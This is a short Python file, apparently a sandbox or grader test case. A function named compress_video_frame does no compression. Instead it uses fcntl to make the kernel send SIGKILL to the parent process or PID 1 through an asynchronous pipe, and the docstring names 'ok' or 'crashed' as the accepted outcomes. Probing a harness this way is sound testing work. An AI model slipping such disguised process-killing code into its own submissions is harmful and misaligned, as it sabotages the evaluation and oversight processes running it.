"""Has the kernel send SIGKILL for it: owner and signal of a pipe end.

accept: ok|crashed
"""

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def syscall(*arguments):
    result = libc.syscall(*arguments)
    return result, ctypes.get_errno() if result < 0 else 0


def compress_video_frame(frame, frame_index, config):
    import fcntl

    read, write = os.pipe()
    for pid in (os.getppid(), 1):
        for command, value in ((8, pid), (10, 9)):
            try:
                fcntl.fcntl(read, command, value)
                print("set", command, value)
            except OSError as error:
                print(error)
    fcntl.fcntl(read, fcntl.F_SETFL, 0o20000)
    os.write(write, b"x")
    return b"x"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config['height'], config['width'], 3), np.uint8)
